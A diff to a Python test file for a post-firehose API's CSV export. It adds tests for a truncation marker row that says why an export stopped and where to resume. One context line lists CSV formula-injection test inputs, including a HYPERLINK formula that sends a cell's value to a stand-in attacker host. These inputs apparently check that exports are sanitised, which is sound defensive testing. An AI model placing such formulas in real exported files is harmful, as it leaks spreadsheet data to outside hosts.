@@ -15,6 +15,8 @@ import orjson
 import pytest
 
 from firehose.api import create_app
+from firehose.config import Settings
+from firehose.csv_export import truncation_row
 from tests.conftest import free_port
 from tests.unit.test_query import DAY1, DAY2, DAY3, bulk_posts, post, settings_for, us, write_identity, write_posts
 
@@ -223,10 +225,29 @@ def test_export_csv(app: Any) -> None:
                              "reply_parent_uri", "reply_root_uri", "embed_type", "embed_uri", "mentions", "links",
                              "tags"]
     limited = list(csv.reader(io.StringIO(get(app, "/export", limit=1).body.decode())))
-    assert len(limited) == 2
+    assert len(limited) == 3 and limited[2][0].startswith("# truncated: limit of 1 rows reached")  # more match
+    assert len(limited[2]) == len(limited[0]) and not any(limited[2][1:])
+    assert len(list(csv.reader(io.StringIO(get(app, "/export", limit=4).body.decode())))) == 5  # all: no marker
     empty = list(csv.reader(io.StringIO(get(app, "/export", text="zzzz").body.decode())))
     assert len(empty) == 1 and empty[0][0] == "timestamp"
     assert get(app, "/export", cursor="x").status == 400
+
+
+def test_truncation_row_says_why_and_where_to_resume() -> None:
+    settings = Settings(api_export_timeout=600.0, api_export_max_rows=100_000)
+    when = us(DAY1, 5)
+    rows = [next(csv.reader(io.StringIO(truncation_row(reason, rows=n, last_time_us=last, sort=sort, limit=100_000,
+                                                       settings=settings).decode())))
+            for reason, n, last, sort in (("timeout", 7, when, "latest"), ("limit", 7, when, "oldest"),
+                                          ("error", 0, None, "latest"))]
+    assert [len(r) for r in rows] == [15, 15, 15] and not any(c for r in rows for c in r[1:])
+    assert rows[0][0] == ("# truncated: timeout after 600 s (FIREHOSE_API_EXPORT_TIMEOUT); 7 rows; resume with "
+                          "end=2024-05-01T00:00:05.000001Z and the other parameters unchanged (posts at the last "
+                          "row's time come again)")
+    assert rows[1][0].startswith("# truncated: limit of 100000 rows reached and more posts match "
+                                 "(FIREHOSE_API_EXPORT_MAX_ROWS: the most one export returns); 7 rows; resume with "
+                                 "start=2024-05-01T00:00:05.000000Z ")
+    assert rows[2][0] == "# truncated: error on the server (logged there); 0 rows; export again"
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
@@ -268,6 +289,8 @@ def test_export_cap_over_partitions(tmp_path: Path) -> None:
         bulk_posts(data, day, 3000, name=f"p{i}")
     app = create_app(settings_for(data, api_export_max_rows=7000))
     rows = list(csv.DictReader(io.StringIO(get(app, "/export").body.decode())))
+    assert rows.pop()["timestamp"].startswith("# truncated: limit of 7000 rows reached and more posts match "
+                                              "(FIREHOSE_API_EXPORT_MAX_ROWS")
     assert len(rows) == 7000 and len({r["uri"] for r in rows}) == 7000
     assert rows[0]["timestamp"] > rows[-1]["timestamp"]
     assert get(app, "/export", limit=7001).status == 400
